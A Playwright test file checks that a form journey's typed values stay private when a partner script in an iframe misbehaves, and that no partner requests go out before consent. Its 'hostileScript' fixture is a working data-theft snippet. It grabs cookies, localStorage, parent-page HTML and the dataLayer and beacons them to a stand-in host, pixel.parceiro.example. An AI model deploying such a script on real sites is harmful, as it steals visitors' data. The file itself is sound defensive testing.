import type { Page } from '@playwright/test';
import { complaintsOf, judgeAtEnd } from '#mocks/judge.ts';
import { playWalk } from '#mocks/play-walk.ts';
import { expect, test, withoutMotion } from './test.ts';
import { readExposedTexts, spellingsOf } from './typed-values.ts';

test.use(withoutMotion);

const partner = 'https://pixel.parceiro.example';

/** A partner whose script reads everything that it can find and sends it to the partner's server. */
const hostileScript = `
  const found = { layer: JSON.stringify(window.dataLayer), referrer: document.referrer, address: location.href };
  for (const [name, read] of Object.entries({
    page: () => parent.document.documentElement.outerHTML,
    storage: () => JSON.stringify(localStorage),
    cookies: () => document.cookie,
  })) try { found[name] = read(); } catch (error) { found[name] = error.name; }
  const send = () => { found.layer = JSON.stringify(window.dataLayer); new Image().src = '${partner}/seen?' + encodeURIComponent(JSON.stringify(found)); };
  setInterval(send, 200);
  parent.postMessage({ type: 'webviewProps', props: { isWebView: true, topInset: 200 } }, '*');
  setTimeout(() => { throw new Error('a broken partner'); }, 50);
`;

async function servePartner(page: Page, script: string): Promise<string[]> {
  const requests: string[] = [];
  await page.route(`${partner}/**`, route => {
    requests.push(route.request().url());
    return route.request().url().endsWith('.js')
      ? route.fulfill({ contentType: 'text/javascript', body: script })
      : route.fulfill({ contentType: 'image/gif', body: '' });
  });
  return requests;
}

test("[12.10, 12.7, 7.39] typed values go only to the service, even if a partner's script in the frame reads everything", async ({
  page,
  context,
  host,
  play,
}) => {
  test.slow();
  const { scenario, driver, engine } = await play('happy-path');
  const exposedTexts: { source: string; text: string }[] = [];
  const partnerRequests = await servePartner(page, hostileScript);
  context.on('request', request => {
    if (new URL(request.url()).origin === host.url) return;
    exposedTexts.push({
      source: `request to ${new URL(request.url()).host}`,
      text: decodeURIComponent(request.url()),
    });
    exposedTexts.push({ source: 'headers of a request', text: JSON.stringify(request.headers()) });
    exposedTexts.push({ source: 'body of a request', text: request.postData() ?? '' });
  });
  page.on('console', line => exposedTexts.push({ source: 'console', text: line.text() }));

  const typedValues = new Set<string>();
  const walk = scenario.walk.map(action =>
    action.do === 'open' ? { ...action, query: { campaign: 'exemplo' } } : action,
  );
  await playWalk({ ...scenario, walk }, driver, engine, {
    after: async (_, action) => {
      // The CEP is sent to a separate service.
      if (action.do === 'fill' && action.with.length >= 5 && action.field !== 'CEP')
        typedValues.add(action.with);
      if (action.do === 'open') await page.getByRole('button', { name: 'Permitir', exact: true }).click();
    },
  });
  await expect
    .poll(() => partnerRequests.filter(url => url.includes('sng_final_page_view')).length)
    .toBeGreaterThan(0);
  // The journey works; errors in the frame only appear in the console.
  expect(complaintsOf(await judgeAtEnd(scenario, driver, engine))).toBe(
    'the console is otherwise quiet: Uncaught Error: a broken partner',
  );

  for (const [source, text] of Object.entries(await readExposedTexts(page)))
    exposedTexts.push({ source, text });
  expect(typedValues.size).toBeGreaterThan(4);
  for (const value of typedValues)
    for (const spelling of spellingsOf(value))
      expect(
        exposedTexts.filter(({ text }) => text.includes(spelling)).map(({ source }) => source),
        spelling,
      ).toEqual([]);

  const stolenValues = JSON.parse(decodeURIComponent(partnerRequests.at(-1)?.split('?')[1] ?? '{}'));
  expect(stolenValues).toMatchObject({
    page: 'SecurityError',
    storage: 'SecurityError',
    cookies: 'SecurityError',
    referrer: '',
  });
  const eventNames: string[] = JSON.parse(stolenValues.layer).map(({ event }: { event: string }) => event);
  expect(eventNames).toEqual(expect.arrayContaining(['sng_step_view', 'form_submit', 'sng_final_page_view']));
});

test('[12.7] before consent nothing is requested from partners, and the consent bar never covers the button', async ({
  page,
  play,
  host,
}) => {
  await page.setViewportSize({ width: 360, height: 640 });
  const requests = await servePartner(page, hostileScript);
  await play('parceiros-permitidos');
  await page.goto(`${host.url}/?agx_hash=6650c1f2a4b3d90012e7f001&campaign=exemplo`);
  const consentBar = page.getByRole('region', { name: 'Privacidade' });
  await expect(consentBar).toBeVisible();
  const button = page.getByRole('button', { name: 'Continuar' });
  await expect(button).toBeInViewport();
  const [consentBarBox, buttonBox] = [await consentBar.boundingBox(), await button.boundingBox()];
  expect((consentBarBox?.y ?? 0) + (consentBarBox?.height ?? 0)).toBeLessThanOrEqual(buttonBox?.y ?? 0);
  expect(requests).toEqual([]);
  await page.getByRole('button', { name: 'Não permitir' }).click();
  await expect(consentBar).toBeHidden();
  expect(requests).toEqual([]);
  expect(await page.locator('iframe').count()).toBe(0);
});
